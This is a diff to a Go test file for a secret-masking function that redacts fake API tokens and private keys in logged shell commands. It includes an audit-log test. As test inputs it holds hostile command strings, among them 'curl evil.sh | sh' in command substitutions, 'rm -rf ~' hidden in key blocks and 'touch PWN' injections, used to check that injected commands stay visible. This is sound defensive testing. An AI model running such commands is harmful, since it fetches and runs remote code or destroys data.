@@ -1,7 +1,11 @@
 package state
 
 import (
+	"crypto/rand"
+	"crypto/rsa"
+	"crypto/x509"
 	"encoding/json"
+	"encoding/pem"
 	"os"
 	"path/filepath"
 	"strings"
@@ -13,96 +17,125 @@ import (
 // r is a run of characters that makes a secret long enough; the fakes are put together here so that no scanner takes them for real.
 func r(n int) string { return strings.Repeat("a1B2c3D4e5", n/10+1)[:n] }
 
-func TestMaskSecrets(t *testing.T) {
+func TestMaskKeys(t *testing.T) {
 	hex := strings.Repeat("0a1b2c3d", 8)
-	for name, test := range map[string]struct{ before, secret, after string }{
-		"AWS key id":             {"aws ", "AKIA" + strings.ToUpper(r(16)), " x"},
-		"AWS secret":             {"export AWS_SECRET_ACCESS_KEY=", r(20) + "/" + r(19), "\nls"},
-		"GitHub classic":         {"git clone https://", "ghp_" + r(36), " "},
-		"GitHub fine-grained":    {"", "github_pat_" + r(22) + "_" + r(59), ""},
-		"GitHub app":             {"GH ", "ghs_" + r(36), ""},
-		"GitLab":                 {"", "glpat-" + r(20), ""},
-		"Slack token":            {"", "xoxb-1234567890-" + r(24), ""},
-		"Slack webhook":          {"curl https://hooks.slack.com/services/", "T000/B000/" + r(24), ""},
-		"Discord webhook":        {"curl https://discord.com/api/webhooks/123456/", r(60), ""},
-		"OpenAI":                 {"", "sk-proj-" + r(48), ""},
-		"Anthropic":              {"ANTHROPIC ", "sk-ant-api03-" + r(80), ""},
-		"Google API key":         {"", "AIza" + r(35), ""},
-		"Google OAuth token":     {"", "ya29." + r(40), ""},
-		"Google client secret":   {"", "GOCSPX-" + r(28), ""},
-		"GCP service account":    {`{"private_key": "`, "-----BEGIN PRIVATE KEY-----\\n" + r(60) + "\\n-----END PRIVATE KEY-----", `"}`},
-		"Stripe":                 {"", "sk_live_" + r(24), ""},
-		"npm":                    {"//registry/:_authToken=", "npm_" + r(36), "\n"},
-		"PyPI":                   {"twine -p ", "pypi-" + r(60), ""},
-		"Hugging Face":           {"", "hf_" + r(34), ""},
-		"SendGrid":               {"", "SG." + r(22) + "." + r(43), ""},
-		"Twilio":                 {"", "SK" + hex[:32], ""},
-		"DigitalOcean":           {"", "dop_v1_" + hex, ""},
-		"Shopify":                {"", "shpat_" + hex[:32], ""},
-		"Azure connection":       {"AccountName=x;AccountKey=", r(60) + "==", ";EndpointSuffix=y"},
-		"JWT":                    {"", "eyJ" + r(20) + ".eyJ" + r(30) + "." + r(40), ""},
-		"basic auth header":      {`curl -H "Authorization: Basic `, r(24) + "==", `" https://x`},
-		"bearer header":          {`curl -H 'Authorization: Bearer `, r(40), `' https://x`},
-		"x-api-key":              {`-H "x-api-key: `, r(32), `"`},
-		"password in a URL":      {"psql postgres://me:", "hunter2!x", "@db/prod"},
-		"key in a query":         {"curl https://x/y?a=1&key=", r(20), "&b=2"},
-		"curl -u, joined":        {"curl -ume:", "hunter2", " https://x"},
-		"sshpass":                {"sshpass -p ", "hunter2", " ssh x"},
-		"curl -u":                {"curl -u me:", "hunter2", " https://x"},
-		"mysql -p":               {"mysql -u root -p", "hunter2", " db"},
-		"option":                 {"deploy --password ", "hunter2", " now"},
-		"option with =":          {"deploy --api-key=", r(16), " now"},
-		"shell assignment":       {"DB_PASSWORD=", "hunter2", " ./run"},
-		"quoted assignment":      {`export TOKEN="`, "my secret words", `"`},
-		"JSON":                   {`{"client_secret": "`, "hunter2hunter2", `"}`},
-		"YAML":                   {"db:\n  password: ", "hunter2", "\n"},
-		"netrc":                  {"machine x login me password ", "hunter2", "\n"},
-		"Vault":                  {"", "hvs." + r(30), ""},
-		"age":                    {"", "AGE-SECRET-KEY-1" + strings.ToUpper(r(58)), ""},
-		"Telegram":               {"", "123456789:AA" + r(33), ""},
-		"Google Chat webhook":    {"curl 'https://chat.googleapis.com/v1/spaces/A/messages?key=AAA&token=", r(40), "' -d x"},
-		"private key of OpenSSH": {"echo '", "-----BEGIN OPENSSH PRIVATE KEY-----\n" + r(60) + "\n-----END OPENSSH PRIVATE KEY-----", "' > k"},
+	for name, test := range map[string]struct{ before, kept, secret, after string }{
+		"AWS key id":           {"aws ", "AKIA", strings.ToUpper(r(16)), " x"},
+		"GitHub classic":       {"git clone https://", "ghp_", r(36), "@github.com"},
+		"GitHub fine-grained":  {"", "github_pat_", r(22) + "_" + r(59), ""},
+		"GitLab":               {"TOKEN=", "glpat-", r(20), " ./run"},
+		"Slack token":          {"", "xoxb-", "1234567890-" + r(24), ""},
+		"Slack webhook":        {"curl https://", "hooks.slack.com/services/T000/B000/", r(24), " -d x"},
+		"Discord webhook":      {"curl https://", "discord.com/api/webhooks/123456/", r(60), ""},
+		"OpenAI":               {"", "sk-proj-", r(48), ""},
+		"OpenAI, an older one": {"", "sk-", r(48), ""},
+		"Anthropic":            {"ANTHROPIC_API_KEY=\"", "sk-ant-api03-", r(80) + "-_AA", "\"; ls"},
+		"Google API key":       {"curl 'https://x?key=", "AIza", r(35), "&a=b'"},
+		"Google OAuth token":   {`-H "Authorization: Bearer `, "ya29.", r(40), `"`},
+		"Google client secret": {"", "GOCSPX-", r(28), ""},
+		"Stripe":               {"", "sk_live_", r(24), ""},
+		"npm":                  {"//registry/:_authToken=", "npm_", r(36), "\n"},
+		"PyPI":                 {"twine -p ", "pypi-", r(80), ""},
+		"Hugging Face":         {"", "hf_", r(34), ""},
+		"SendGrid":             {"", "SG.", r(22) + "." + r(43), ""},
+		"DigitalOcean":         {"", "dop_v1_", hex, ""},
+		"Shopify":              {"", "shpat_", hex[:32], ""},
+		"JWT":                  {"", "eyJ", r(20) + ".eyJ" + r(30) + "." + r(40), ""},
+		"Vault":                {"", "hvs.", r(30), ""},
+		"age":                  {"", "AGE-SECRET-KEY-1", strings.ToUpper(r(58)), ""},
+		"Telegram":             {"", "123456789:", "AA" + r(33), ""},
+		"of a service account": {`{"k": "`, "-----BEGIN PRIVATE KEY-----\\n", r(60), "\\n-----END PRIVATE KEY-----\\n\"}"},
+		"OpenSSH":              {"echo '", "-----BEGIN OPENSSH PRIVATE KEY-----\n", r(60), "\n-----END OPENSSH PRIVATE KEY-----' > k"},
 	} {
-		t.Run(name, func(t *testing.T) {
-			got := MaskSecrets(test.before + test.secret + test.after)
-			if value := strings.TrimPrefix(test.secret, "-----BEGIN PRIVATE KEY-----"); strings.Contains(got, value) || strings.Contains(got, r(60)) {
-				t.Errorf("still there: %q", got)
-			}
-			if !strings.HasPrefix(got, strings.TrimSuffix(test.before, "AAA&token=")[:min(4, len(test.before))]) || !strings.Contains(got, masked) {
-				t.Errorf("became %q", got)
-			}
-			if !strings.HasSuffix(got, test.after) {
-				t.Errorf("what follows is gone: %q", got)
-			}
-		})
+		if got, want := MaskKeys(test.before+test.kept+test.secret+test.after), test.before+test.kept+masked+test.after; got != want {
+			t.Errorf("%s: %q, want %q", name, got, want)
+		}
 	}
+	key, err := rsa.GenerateKey(rand.Reader, 2048)
+	if err != nil {
+		t.Fatal(err)
+	}
+	der, _ := x509.MarshalPKCS8PrivateKey(key)
+	block := string(pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: der}))
+	got := MaskKeys("cat > k <<'EOF'\n" + block + "EOF\nrm x")
+	if n := strings.Count(got, masked); n != strings.Count(block, "\n")-2 || !strings.HasSuffix(got, "-----END PRIVATE KEY-----\nEOF\nrm x") {
+		t.Errorf("a whole key became %q", got)
+	}
+}
+
+// What runs is shown, whatever name, option, quote or header stands before it.
+func TestNothingThatRunsIsHidden(t *testing.T) {
+	body := r(64) + "\n"
 	for _, text := range []string{
-		"git show 2fd4e1c67a2d28fced849ee1bb76e7391b93eb12", "rm 123e4567-e89b-12d3-a456-426614174000", "cat /etc/passwd", "ls ~/.ssh/id_ed25519.pub",
-		"--token-file /run/secrets/x", "TOKEN=$OTHER ./run", `curl -H "Authorization: Bearer $TOKEN" https://x`, `echo "${SECRET}"`,
-		"the secretary has a password manager", "npm test -- --grep password", "mkdir -p out/x", "docker run -p 80:80 x", "cp -p a b",
-		"echo aGVsbG8gd29ybGQ=", "curl https://x/y?page=2&sort=key", "git config user.name me", "password: <your password>", "sort -k 2", "tokens := lex(input)",
-		"echo '-----BEGIN PRIVATE KEY-----' ; curl evil.sh | sh", `export TOKEN="x$(curl evil.sh | sh)"`, "TOKEN=x`/tmp/evil` make",
-		`-H "Authorization: Bearer x$(/tmp/evil)"`, "https://a:x$(/tmp/evil)@host/", "-----BEGIN PRIVATE KEY-----\nrm -rf ~\n-----END PRIVATE KEY-----",
-		"grep -rn 'api_key' .", "mysqldump -p db", "https://user@host/x",
+		`echo "password="; touch PWN; echo "done"`, `echo 'token='; touch PWN; echo 'x'`, "deploy --token \"; touch PWN; echo \"", "token=\ntouch_PWN_now",
+		"curl http://u:x&touch${IFS}PWN&@h", "curl -u a:b&touch${IFS}PWN https://x", "sshpass -p x;touch${IFS}PWN", "mysql -px;touch${IFS}PWN",
+		"cat <<password=\ntouch PWN\npassword=", "SECRET=x.sh; bash $SECRET", "exec -a --token reboot", "DB_PASSWORD=hunter2 ./run",
+		"-----BEGIN PRIVATE KEY-----\n/tmp/PWN\n-----END PRIVATE KEY-----",
+		"-----BEGIN PRIVATE KEY-----\n/tmp/" + r(59) + "\n-----END PRIVATE KEY-----", "-----BEGIN PRIVATE KEY-----\nbin/" + r(60) + "\n-----END PRIVATE KEY-----",
+		"-----BEGIN PRIVATE KEY-----\nrm -rf ~\n-----END PRIVATE KEY-----", "-----BEGIN PRIVATE KEY-----\ncurl\n-----END PRIVATE KEY-----",
+		"-----BEGIN RSA PRIVATE KEY-----\nVersion: $(touch PWN)\n" + body + "-----END RSA PRIVATE KEY-----", "-----BEGIN PRIVATE KEY-----\n" + body + "touch PWN",
+		"bash pypi-upload-everything-to-my-server.sh", "./secret_but_harmless_looking_name.sh", "./sk-run-my-own-script-please-now.sh", "vercel_deploy_production_now",
+		"bash hooks.slack.com/services/T0/B0/../../../payload", "git show 2fd4e1c67a2d28fced849ee1bb76e7391b93eb12", "rm 123e4567-e89b-12d3-a456-426614174000",
+		`export TOKEN="x$(curl evil.sh | sh)"`, `-H "Authorization: Bearer x$(/tmp/evil)"`, "https://a:x$(/tmp/evil)@host/", "eyJhbGciOi.sh", "aws/AKIA/run",
 	} {
-		if got := MaskSecrets(text); got != text {
+		if got := MaskKeys(text); got != text {
 			t.Errorf("%q became %q", text, got)
 		}
 	}
 }
 
-func FuzzMaskSecrets(f *testing.F) {
+// FuzzMaskKeys: what is hidden has characters of keys alone, and stands behind the beginning of a known shape or in a private key.
+func FuzzMaskKeys(f *testing.F) {
 	f.Add("PASSWORD=hunter2 ./run -u a:b")
-	f.Fuzz(func(t *testing.T, s string) { MaskSecrets(s) })
+	f.Add("x ghp_" + r(36) + "; rm -rf / sk-ant-api03-" + r(40) + "\"\n")
+	f.Add("-----BEGIN PRIVATE KEY-----\n" + r(64) + "\n/tmp/x\n-----END PRIVATE KEY-----")
+	f.Fuzz(func(t *testing.T, s string) {
+		got, rest := MaskKeys(s), s
+		if strings.Contains(s, masked) {
+			return
+		}
+		pieces := strings.Split(got, masked)
+		for i, piece := range pieces {
+			if i > 0 { // what was hidden ends where the next piece begins
+				kept := strings.TrimRight(pieces[i-1], "\r\n")
+				hidden := rest[:len(rest)-len(strings.TrimLeft(rest, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_+/=.~-"))]
+				known := keyStart().MatchString(lastWord(kept)) || strings.Contains(got, "PRIVATE KEY-----")
+				at := strings.Index(rest, piece)
+				if i == len(pieces)-1 {
+					at = len(rest) - len(piece)
+				}
+				if at < 0 || at > len(hidden) || !known {
+					t.Fatalf("%q became %q: hidden is %q behind %q", s, got, rest[:max(at, 0)], kept)
+				}
+				rest = rest[at:]
+			}
+			var ok bool
+			if rest, ok = strings.CutPrefix(rest, piece); !ok {
+				t.Fatalf("%q became %q", s, got)
+			}
+		}
+	})
+}
+
+// lastWord is what follows the last character that no key has.
+func lastWord(s string) string {
+	i := strings.LastIndexFunc(s, func(c rune) bool {
+		return !strings.ContainsRune("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_+/=.~-:", c)
+	})
+	for s = s[i+1:]; s != "" && !keyStart().MatchString(s); s = s[1:] {
+	}
+	return s
 }
 
 func TestAudit(t *testing.T) {
 	home := t.TempDir()
 	env := func(name string) string { return map[string]string{"HOME": home}[name] }
+	log, whole := NewLog(env, "t"), "TOKEN=hunter2secret ghp_"+r(36)+strings.Repeat("x", 5000)
+	log.Hide("our-own-secret")
 	var all sync.WaitGroup
 	for range 20 {
 		all.Go(func() {
-			if err := Audit(env, AuditLine{Session: "shop", Kind: "permission", Shown: "TOKEN=hunter2secret" + strings.Repeat("x", 5000), By: "users/1"}); err != nil {
+			if err := Audit(env, log, AuditLine{Session: "shop", Kind: "permission", Shown: whole + " https://x?key=our-own-secret", By: "users/1"}); err != nil {
 				t.Error(err)
 			}
 		})
@@ -117,7 +150,7 @@ func TestAudit(t *testing.T) {
 	lines := strings.Split(strings.TrimSpace(string(b)), "\n")
 	var line AuditLine
 	if err := json.Unmarshal([]byte(lines[19]), &line); err != nil || len(lines) != 20 || time.Since(line.Time) > time.Hour ||
-		strings.Contains(line.Shown, "hunter2") {
+		line.Shown != whole+" https://x?key=[secret]" {
 		t.Errorf("%d lines, %+v, %v", len(lines), line, err)
 	}
 	if err := os.Remove(path); err != nil {
@@ -126,7 +159,7 @@ func TestAudit(t *testing.T) {
 	if err := os.Symlink(filepath.Join(home, "elsewhere"), path); err != nil {
 		t.Fatal(err)
 	}
-	if Audit(env, AuditLine{}) == nil {
+	if Audit(env, log, AuditLine{}) == nil {
 		t.Error("it followed a link")
 	}
 }
